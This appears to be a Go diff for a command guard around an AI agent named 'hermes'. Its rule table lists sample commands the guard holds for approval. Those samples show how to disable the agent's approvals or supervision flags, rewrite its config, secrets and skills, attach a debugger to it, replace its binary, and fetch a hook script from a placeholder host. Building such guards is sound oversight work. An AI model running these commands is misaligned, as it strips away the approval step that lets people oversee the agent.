@@ -26,15 +26,23 @@ func selfConfig() table {
 		row("hermes changes its own configuration", "changes what the guard lets pass, or who may say yes",
 			ask(func(_ *ctx, _ int, words []shell.Word) bool { return !readsOnly(words) && configures(words) }),
 			[]string{
-				"hermes config set approvals.mode off", "hermes config edit", "hermes approvals suggest --apply 1,2", "hermes approvals revoke all", "hermes pairing approve telegram A1", "hermes skills install x",
-				"hermes profile install ./p", "hermes cron add '* * * * *' x", "hermes gateway run", "hermes gateway install", "hermes mcp add x -- npx y", "hermes auth add openrouter", "hermes login",
-				"./hermes config set a.b c", "python -m hermes_cli.main config set a b", "go run ./cmd/hermes config set a b", "go run ./cmd/hermes/main.go config set a b", "hermes -p work config unset a", "hermes $(echo config) set a b", "hermes doctor --ack W12",
-				"hermes sandbox clean --all", "hermes tools enable shell", "hermes setup", "sudo hermes gateway install", "hermes egress proxy --listen 0.0.0.0:1", "hermes config $X a", "python3 hermes_cli/main.py config set a b",
+				"hermes config set approvals.mode off", "hermes config edit", "hermes approvals suggest --apply 1,2", "hermes approvals revoke all",
+				"hermes pairing approve telegram A1", "hermes skills install x",
+				"hermes profile install ./p", "hermes cron add '* * * * *' x", "hermes gateway run", "hermes gateway install",
+				"hermes mcp add x -- npx y", "hermes auth add openrouter", "hermes login",
+				"./hermes config set a.b c", "python -m hermes_cli.main config set a b", "go run ./cmd/hermes config set a b",
+				"go run ./cmd/hermes/main.go config set a b", "hermes -p work config unset a", "hermes $(echo config) set a b",
+				"hermes doctor --ack W12",
+				"hermes sandbox clean --all", "hermes tools enable shell", "hermes setup", "sudo hermes gateway install",
+				"hermes egress proxy --listen 0.0.0.0:1", "hermes config $X a", "python3 hermes_cli/main.py config set a b",
 			},
 			[]string{
-				"hermes config get approvals.mode", "hermes config path", "hermes check 'rm -rf /'", "hermes doctor", "hermes version", "hermes approvals list", "hermes approvals suggest", "hermes approvals test 'ls'",
-				"hermes cron list", "hermes gateway status", "hermes sandbox verify", "hermes audit tail", "hermes sessions list", "hermes", "hermes cron", "hermes chat -q 'config set'", "go test ./cmd/hermes", "go run ./cmd/hermes check ls",
-				"echo hermes config set a b", "hermes config show", "hermes gateway --help", "grep -r 'hermes config set' docs", "hermes config --help", "go build -o hermes ./cmd/hermes",
+				"hermes config get approvals.mode", "hermes config path", "hermes check 'rm -rf /'", "hermes doctor", "hermes version",
+				"hermes approvals list", "hermes approvals suggest", "hermes approvals test 'ls'",
+				"hermes cron list", "hermes gateway status", "hermes sandbox verify", "hermes audit tail", "hermes sessions list", "hermes",
+				"hermes cron", "hermes chat -q 'config set'", "go test ./cmd/hermes", "go run ./cmd/hermes check ls",
+				"echo hermes config set a b", "hermes config show", "hermes gateway --help", "grep -r 'hermes config set' docs",
+				"hermes config --help", "go build -o hermes ./cmd/hermes",
 			}),
 		row("hermes started with its questions switched off", "starts an agent that nobody asks",
 			either(
@@ -49,46 +57,62 @@ func selfConfig() table {
 				}),
 			),
 			[]string{
-				"hermes exec --yolo -- rm -rf build", "hermes --yolo exec 'make deploy'", "hermes chat --yolo -q x", "yes a | hermes exec 'rm -rf src'", "HERMES_HOME=/tmp/h hermes chat -q x",
+				"hermes exec --yolo -- rm -rf build", "hermes --yolo exec 'make deploy'", "hermes chat --yolo -q x",
+				"yes a | hermes exec 'rm -rf src'", "HERMES_HOME=/tmp/h hermes chat -q x",
 				"go run ./cmd/hermes exec --yolo ls", "HERMES_INTERACTIVE=1 hermes exec ls",
 			},
-			[]string{"hermes chat -q x", "hermes exec 'ls'", "HERMES_HOME=/tmp/h hermes check ls", "echo --yolo", "npm run x -- --yolo", "HERMES_HOME=$(mktemp -d) go test ./..."}),
+			[]string{"hermes chat -q x", "hermes exec 'ls'", "HERMES_HOME=/tmp/h hermes check ls", "echo --yolo", "npm run x -- --yolo",
+				"HERMES_HOME=$(mktemp -d) go test ./..."}),
 		row("variable that switches hermes' questions off", "makes an agent start that nobody asks",
 			match{on: onAssign, test: unasked},
-			[]string{"HERMES_YOLO_MODE=1 hermes chat -q hi", "env HERMES_YOLO_MODE=yes hermes exec id", "HERMES_EXEC_ASK=0 make x", "HERMES_CRON_SESSION= hermes exec ls"},
+			[]string{"HERMES_YOLO_MODE=1 hermes chat -q hi", "env HERMES_YOLO_MODE=yes hermes exec id", "HERMES_EXEC_ASK=0 make x",
+				"HERMES_CRON_SESSION= hermes exec ls"},
 			[]string{"HERMES_HOME=/tmp/x go test ./...", "HERMES_LOG=debug hermes doctor", "YOLO=1 make"}),
-		row("variable that switches hermes' questions off, for the session", "makes every agent start without questions, or hides that it is supervised",
-			all(runs("export", "declare", "typeset", "readonly", "unset", "setenv", "set", "local", "make", "docker", "podman", "launchctl", "systemctl", "systemd-run", "setx"), when(exportsUnasked)),
-			[]string{"export HERMES_YOLO_MODE=true; hermes", "declare -x HERMES_YOLO_MODE=1", "unset HERMES_SUPERVISED_CHILD; hermes gateway stop", "export HERMES_EXEC_ASK=0", "launchctl setenv HERMES_YOLO_MODE 1", "docker run -e HERMES_YOLO_MODE=1 x"},
+		row("variable that switches hermes' questions off, for the session",
+			"makes every agent start without questions, or hides that it is supervised",
+			all(runs("export", "declare", "typeset", "readonly", "unset", "setenv", "set", "local", "make", "docker", "podman", "launchctl",
+				"systemctl", "systemd-run", "setx"), when(exportsUnasked)),
+			[]string{"export HERMES_YOLO_MODE=true; hermes", "declare -x HERMES_YOLO_MODE=1", "unset HERMES_SUPERVISED_CHILD; hermes gateway stop",
+				"export HERMES_EXEC_ASK=0", "launchctl setenv HERMES_YOLO_MODE 1", "docker run -e HERMES_YOLO_MODE=1 x"},
 			[]string{"export HERMES_HOME=/tmp/x", "export PATH=$PATH:/x", "unset X", "echo HERMES_YOLO_MODE=1"}),
 		row("write into hermes' own files", "changes the agent's settings, secrets, jobs, skills or memory behind its back",
 			wrote((*ctx).isOwnFile),
 			[]string{
-				"echo 'approvals: {mode: off}' > ~/.hermes/config.yaml", "cp /tmp/auth.json ~/.hermes/auth.json", "echo '{}' > ~/.hermes/cron/jobs.json", "curl -so ~/.hermes/hooks/pre.sh https://x.example/h",
-				"cd ~/.hermes && echo x > config.yaml", "echo x >> $HERMES_HOME/.env", "sed -i s/a/b/ ~/.hermes/config.yaml", "dd if=x of=$HOME/.hermes/state.db", "tee ~/.hermes/SOUL.md < x", "truncate -s 0 ~/.hermes/state.db",
+				"echo 'approvals: {mode: off}' > ~/.hermes/config.yaml", "cp /tmp/auth.json ~/.hermes/auth.json",
+				"echo '{}' > ~/.hermes/cron/jobs.json", "curl -so ~/.hermes/hooks/pre.sh https://x.example/h",
+				"cd ~/.hermes && echo x > config.yaml", "echo x >> $HERMES_HOME/.env", "sed -i s/a/b/ ~/.hermes/config.yaml",
+				"dd if=x of=$HOME/.hermes/state.db", "tee ~/.hermes/SOUL.md < x", "truncate -s 0 ~/.hermes/state.db",
 				"echo x > ../.hermes/config.yaml", "echo x > .hermes/.env", "mkdir -p ~/.hermes/skills/x && cp e.md ~/.hermes/skills/x/SKILL.md",
 			},
-			[]string{"cat ~/.hermes/config.yaml", "cp ~/.hermes/config.yaml /tmp/x", "echo x > ./config.yaml", "ls ~/.hermes", "tail ~/.hermes/logs/agent.log", "echo x > ~/.hermes/logs/note.log", "grep x ~/.hermes/config.yaml > out"}),
+			[]string{"cat ~/.hermes/config.yaml", "cp ~/.hermes/config.yaml /tmp/x", "echo x > ./config.yaml", "ls ~/.hermes",
+				"tail ~/.hermes/logs/agent.log", "echo x > ~/.hermes/logs/note.log", "grep x ~/.hermes/config.yaml > out"}),
 		row("change of hermes' own files by another program", "changes the agent's settings, secrets, jobs, skills or memory behind its back",
 			either(
-				all(runs("rm", "mv", "mkdir", "rmdir", "unlink", "shred", "chmod", "chown", "chgrp", "chattr", "setfacl", "ed", "ex", "vi", "vim", "nvim", "nano", "emacs", "code", "patch", "sponge", "trash", "micro"), operand((*ctx).isOwnFile)),
-				all(runs("yq", "jq", "toml", "dasel", "crudini", "awk", "gawk", "ruff", "prettier"), given("-i", "--in-place", "--inplace", "inplace", "-iy", "--write", "put"), operand((*ctx).isOwnFile)),
+				all(runs("rm", "mv", "mkdir", "rmdir", "unlink", "shred", "chmod", "chown", "chgrp", "chattr", "setfacl", "ed", "ex", "vi", "vim",
+					"nvim", "nano", "emacs", "code", "patch", "sponge", "trash", "micro"), operand((*ctx).isOwnFile)),
+				all(runs("yq", "jq", "toml", "dasel", "crudini", "awk", "gawk", "ruff", "prettier"), given("-i", "--in-place", "--inplace", "inplace",
+					"-iy", "--write", "put"), operand((*ctx).isOwnFile)),
 				all(runs("sqlite3", "sqlite"), operand((*ctx).isOwnFile), not(given("-readonly", "--readonly")), when(changesDatabase)),
 				all(runs("tar", "bsdtar", "unzip", "7z", "git", "hg", "cpio", "rsync", "wget", "ditto"), when(unpacksInto)),
 				all(runs("find"), when(deletesOwn)),
 			),
 			[]string{
-				"rm -f ~/.hermes/config.yaml", "mv ~/.hermes ~/.hermes.bak", "yq -i '.approvals.mode = \"off\"' ~/.hermes/config.yaml", "sqlite3 ~/.hermes/state.db 'update sessions set yolo=1'", "tar xf /tmp/h.tar -C ~/.hermes",
-				"unzip -o /tmp/h.zip -d ~/.hermes", "git -C ~/.hermes checkout .", "git clone https://x.example/s ~/.hermes/skills/x", "vim -es '+%s/a/b/' +wq ~/.hermes/config.yaml", "chmod 777 ~/.hermes/config.yaml", "patch ~/.hermes/config.yaml < p", "awk -i inplace 1 ~/.hermes/config.yaml",
+				"rm -f ~/.hermes/config.yaml", "mv ~/.hermes ~/.hermes.bak", "yq -i '.approvals.mode = \"off\"' ~/.hermes/config.yaml",
+				"sqlite3 ~/.hermes/state.db 'update sessions set yolo=1'", "tar xf /tmp/h.tar -C ~/.hermes",
+				"unzip -o /tmp/h.zip -d ~/.hermes", "git -C ~/.hermes checkout .", "git clone https://x.example/s ~/.hermes/skills/x",
+				"vim -es '+%s/a/b/' +wq ~/.hermes/config.yaml", "chmod 777 ~/.hermes/config.yaml", "patch ~/.hermes/config.yaml < p",
+				"awk -i inplace 1 ~/.hermes/config.yaml",
 				"ed -s ~/.hermes/config.yaml < x", "find ~/.hermes -name '*.json' -delete",
 			},
 			[]string{
-				"yq .approvals ~/.hermes/config.yaml", "sqlite3 ~/.hermes/state.db 'select 1'", "tar cf x.tar ~/.hermes", "git -C ~/.hermes log", "rm ~/.hermes/logs/x.log", "find ~/.hermes -name '*.log'", "rm -rf ./hermes",
+				"yq .approvals ~/.hermes/config.yaml", "sqlite3 ~/.hermes/state.db 'select 1'", "tar cf x.tar ~/.hermes", "git -C ~/.hermes log",
+				"rm ~/.hermes/logs/x.log", "find ~/.hermes -name '*.log'", "rm -rf ./hermes",
 				"vim ./config.yaml", "tar xf h.tar -C /tmp/h",
 			}),
 		row("program text that names hermes' own files", "may change the agent's settings or secrets behind its back",
 			match{on: onPayload, test: writesOwn},
-			[]string{`python3 -c "import os;open(os.path.expanduser('~/.hermes/config.yaml'),'a').write('x')"`, `node -e 'require("fs").writeFileSync(process.env.HOME+"/.hermes/config.yaml","x")'`},
+			[]string{`python3 -c "import os;open(os.path.expanduser('~/.hermes/config.yaml'),'a').write('x')"`,
+				`node -e 'require("fs").writeFileSync(process.env.HOME+"/.hermes/config.yaml","x")'`},
 			[]string{`python3 -c "print(open('/home/u/.hermes/config.yaml').read())"`, `python3 -c 'print(1)'`}),
 		row("kill of hermes by what a list finds", "stops the agent itself, or the gateway it runs in",
 			all(runs("kill"), when(killsListedAgent)),
@@ -100,8 +124,10 @@ func selfConfig() table {
 				match{names: []string{"alias"}, test: aliasesHermes},
 				all(runs("gdb", "lldb", "strace", "ltrace", "gcore", "reptyr", "dlv", "ptrace"), when(attaches)),
 			),
-			[]string{"mv $(which hermes) /tmp/", `cp /tmp/fake "$(command -v hermes)"`, "alias hermes=/tmp/x", "gdb -p $(pgrep hermes) -batch", "cp /tmp/x /usr/local/bin/hermes", "rm ~/.local/bin/hermes"},
-			[]string{"cp $(which hermes) /tmp/x", "go build -o bin/hermes ./cmd/hermes", "ls -l $(which hermes)", "alias h=hermes", "gdb ./a.out", "rm ./hermes", "cp hermes /tmp/hermes"}),
+			[]string{"mv $(which hermes) /tmp/", `cp /tmp/fake "$(command -v hermes)"`, "alias hermes=/tmp/x", "gdb -p $(pgrep hermes) -batch",
+				"cp /tmp/x /usr/local/bin/hermes", "rm ~/.local/bin/hermes"},
+			[]string{"cp $(which hermes) /tmp/x", "go build -o bin/hermes ./cmd/hermes", "ls -l $(which hermes)", "alias h=hermes", "gdb ./a.out",
+				"rm ./hermes", "cp hermes /tmp/hermes"}),
 	}
 }
 
@@ -230,7 +256,8 @@ func readsOnly(words []shell.Word) bool {
 		return words[0].Is("sessions") || words[0].Is("session")
 	}
 	switch verb {
-	case "get", "path", "list", "ls", "show", "status", "check", "verify", "probe", "view", "info", "search", "browse", "inspect", "tail", "logs", "history", "export", "test", "diff", "env-path", "validate":
+	case "get", "path", "list", "ls", "show", "status", "check", "verify", "probe", "view", "info", "search", "browse", "inspect", "tail", "logs",
+		"history", "export", "test", "diff", "env-path", "validate":
 		return true
 	}
 	return false
@@ -245,7 +272,8 @@ func configures(words []shell.Word) bool {
 		return true
 	}
 	switch words[0].Text {
-	case "config", "approvals", "pairing", "skills", "skill", "profile", "profiles", "cron", "gateway", "mcp", "tools", "auth", "sandbox", "egress", "plugins", "plugin", "hooks", "hook", "doctor",
+	case "config", "approvals", "pairing", "skills", "skill", "profile", "profiles", "cron", "gateway", "mcp", "tools", "auth", "sandbox", "egress",
+		"plugins", "plugin", "hooks", "hook", "doctor",
 		"memory", "webhook", "webhooks", "secrets", "tunnel", "personality":
 		return len(words) > 1
 	case "login", "logout", "setup", "model", "uninstall", "import", "restore", "serve":
@@ -303,7 +331,8 @@ func (c *ctx) altersHermes(i int) bool {
 // unaskedVariable tells whether a variable decides whether hermes asks.
 func unaskedVariable(name string) bool {
 	switch name {
-	case "HERMES_YOLO_MODE", "HERMES_EXEC_ASK", "HERMES_CRON_SESSION", "HERMES_INTERACTIVE", "HERMES_SUPERVISED_CHILD", "HERMES_GATEWAY_SESSION", "HERMES_ACCEPT_HOOKS", "HERMES_APPROVALS_MODE",
+	case "HERMES_YOLO_MODE", "HERMES_EXEC_ASK", "HERMES_CRON_SESSION", "HERMES_INTERACTIVE", "HERMES_SUPERVISED_CHILD", "HERMES_GATEWAY_SESSION",
+		"HERMES_ACCEPT_HOOKS", "HERMES_APPROVALS_MODE",
 		"HERMES_SESSION_KEY", "HERMES_WRITE_SAFE_ROOT", "HERMES_REDACT_SECRETS":
 		return true
 	}
@@ -328,171 +357,6 @@ func exportsUnasked(c *ctx, i int) (span, bool) {
 	return span{}, false
 }
 
-// isOwnFile tells whether the target is hermes' directory or something in it that decides what the agent does.
-func (c *ctx) isOwnFile(t target) bool {
-	rest, ok := c.ownPath(t.path)
-	if !ok {
-		return false
-	}
-	part, _, _ := cut(rest, '/')
-	switch part {
-	case "logs", "cache", "tmp", "image_cache", "audio_cache", "document_cache", "browser_screenshots", "sandboxes", "workspace", "workspaces", "worktrees", "downloads", "output", "outputs", "checkpoints":
-		return false
-	}
-	return true
-}
-
-// ownPath returns a path below hermes' directory, or below a profile's.
-func (c *ctx) ownPath(p string) (string, bool) {
-	rest, ok := "", false
-	for _, d := range [...]string{"~/.hermes", c.hermesHome(), c.facts.Home + "/.hermes", "/root/.hermes"} {
-		if len(d) > len("/.hermes") && under(p, d) {
-			rest, ok = strings.TrimPrefix(p[len(d):], "/"), true
-			break
-		}
-	}
-	if !ok && (strings.HasPrefix(p, "/home/") || strings.HasPrefix(p, "/Users/")) {
-		if n := strings.Index(p, "/.hermes"); n > 0 && strings.Count(p[:n], "/") == 2 && under(p, p[:n]+"/.hermes") {
-			rest, ok = strings.TrimPrefix(p[n+len("/.hermes"):], "/"), true
-		}
-	}
-	if !ok {
-		rest, ok = c.climbed(p)
-	}
-	if profile, found := strings.CutPrefix(rest, "profiles/"); found {
-		_, rest, _ = cut(profile, '/')
-	}
-	return rest, ok
-}
-
-// climbed returns a path below a folder named like hermes' own, where the start directory is not known or left.
-func (c *ctx) climbed(p string) (string, bool) {
-	switch {
-	case strings.HasPrefix(p, "../"), p != "" && p[0] == 0:
-		n := strings.Index(p, "/.hermes")
-		if n < 0 {
-			return "", false
-		}
-		p = p[n+1:]
-	case c.facts.Dir != "":
-		return "", false
-	}
-	if !under(p, ".hermes") {
-		return "", false
-	}
-	return strings.TrimPrefix(p[len(".hermes"):], "/"), true
-}
-
-// changesDatabase holds unless all a database client is told is to read.
-func changesDatabase(c *ctx, i int) (span, bool) {
-	words := c.operands(i)
-	if len(words) < 2 {
-		return span{}, true
-	}
-	for _, w := range words[1:] {
-		first, _, _ := cut(strings.ToLower(strings.TrimSpace(w.Text)), ' ')
-		switch first {
-		case "select", "explain", ".tables", ".schema", ".dump", ".indexes", ".headers", ".mode":
-		default:
-			if len(w.Holes) > 0 || first != "pragma" {
-				return at(w), true
-			}
-		}
-	}
-	return span{}, false
-}
-
-// unpacksInto holds for a program that is told to unpack or check files out in hermes' directory.
-func unpacksInto(c *ctx, i int) (span, bool) {
-	args := c.args(i)
-	own := func(w shell.Word) bool {
-		for _, t := range c.targets(w, c.cmd(i).Dir) {
-			if !t.maybe && c.isOwnFile(t) {
-				return true
-			}
-		}
-		return false
-	}
-	switch c.name(i) {
-	case "tar", "bsdtar":
-		first := ""
-		if len(args) > 1 {
-			first = args[1].Text
-		}
-		if !c.says(i, "--extract", "--get", "-x") && (first == "" || strings.HasPrefix(first, "--") || strings.IndexByte(first, 'x') < 0) {
-			return span{}, false
-		}
-	case "git", "hg":
-		for _, w := range args[1:] {
-			if w.Is("clone") && own(args[len(args)-1]) {
-				return at(args[len(args)-1]), true
-			}
-			if gitReads(w.Text) {
-				return span{}, false
-			}
-		}
-	}
-	for k, w := range args[1:] {
-		switch t := w.Text; {
-		case t == "-C" || t == "-d" || t == "--directory" || t == "-P" || t == "--cwd" || t == "-R" || t == "--git-dir" || t == "--work-tree":
-			if k+2 < len(args) && own(args[k+2]) {
-				return at(args[k+2]), true
-			}
-		case strings.HasPrefix(t, "--directory="), strings.HasPrefix(t, "--work-tree="), strings.HasPrefix(t, "--directory-prefix="):
-			if own(w.Slice(strings.IndexByte(t, '=') + 1)) {
-				return at(w), true
-			}
-		case len(t) > 2 && (strings.HasPrefix(t, "-C") || strings.HasPrefix(t, "-d") || strings.HasPrefix(t, "-o")) && c.name(i) != "git" && own(w.Slice(2)):
-			return at(w), true
-		}
-	}
-	dir := c.cmd(i).Dir
-	if c.name(i) != "git" && c.name(i) != "rsync" && c.name(i) != "wget" && dir.Text != "" && dir.Text != "." && own(dir) {
-		return span{}, true
-	}
-	return span{}, false
-}
-
-func gitReads(verb string) bool {
-	switch verb {
-	case "log", "status", "diff", "show", "rev-parse", "ls-files", "branch", "remote", "blame", "grep", "describe", "reflog", "add", "commit", "identify", "id":
-		return true
-	}
-	return false
-}
-
-// deletesOwn holds for a find below hermes' directory that deletes or runs a program.
-func deletesOwn(c *ctx, i int) (span, bool) {
-	args := c.args(i)
-	acts := false
-	for _, w := range args {
-		acts = acts || w.Is("-delete") || w.Is("-fprint") || w.Is("-fprintf")
-	}
-	if !acts {
-		return span{}, false
-	}
-	for _, w := range args[1:] {
-		if w.Text != "" && w.Text[0] == '-' {
-			break
-		}
-		for _, t := range c.targets(w, c.cmd(i).Dir) {
-			if !t.maybe && c.isOwnFile(t) {
-				return at(w), true
-			}
-		}
-	}
-	return span{}, false
-}
-
-// writesOwn holds for program text that writes or deletes, or may, and names hermes' directory.
-func writesOwn(c *ctx, i int) (span, bool) {
-	p := c.payload(i)
-	if p.Report.Effects.Harmless() {
-		return span{}, false
-	}
-	return at(p.Text), strings.Contains(p.Text.Text, ".hermes/") || strings.Contains(p.Text.Text, "HERMES_HOME")
-}
-
 // namesProgram holds when the place hermes is started from is to be written, moved or deleted.
 func namesProgram(c *ctx, i int) (span, bool) {
 	words := c.operands(i)
@@ -505,7 +369,8 @@ func namesProgram(c *ctx, i int) (span, bool) {
 	for _, w := range words {
 		if len(w.Holes) == 1 && w.Text == shell.Unknown && w.Holes[0].Kind == shell.Output {
 			f := strings.Fields(w.Holes[0].Name)
-			if len(f) > 1 && f[len(f)-1] == "hermes" && (f[0] == "which" || f[0] == "command" || f[0] == "type" || f[0] == "whereis" || f[0] == "whence") {
+			if len(f) > 1 && f[len(f)-1] == "hermes" && (f[0] == "which" || f[0] == "command" || f[0] == "type" || f[0] == "whereis" ||
+				f[0] == "whence") {
 				return at(w), true
 			}
 		}
@@ -514,7 +379,8 @@ func namesProgram(c *ctx, i int) (span, bool) {
 				continue
 			}
 			switch strings.TrimSuffix(t.path, "/hermes") {
-			case "/usr/bin", "/usr/local/bin", "/bin", "~/.local/bin", "~/bin", "/opt/homebrew/bin", "~/go/bin", c.facts.Home + "/.local/bin", c.facts.Home + "/bin", c.facts.Home + "/go/bin":
+			case "/usr/bin", "/usr/local/bin", "/bin", "~/.local/bin", "~/bin", "/opt/homebrew/bin", "~/go/bin", c.facts.Home + "/.local/bin",
+				c.facts.Home + "/bin", c.facts.Home + "/go/bin":
 				return at(w), true
 			}
 		}
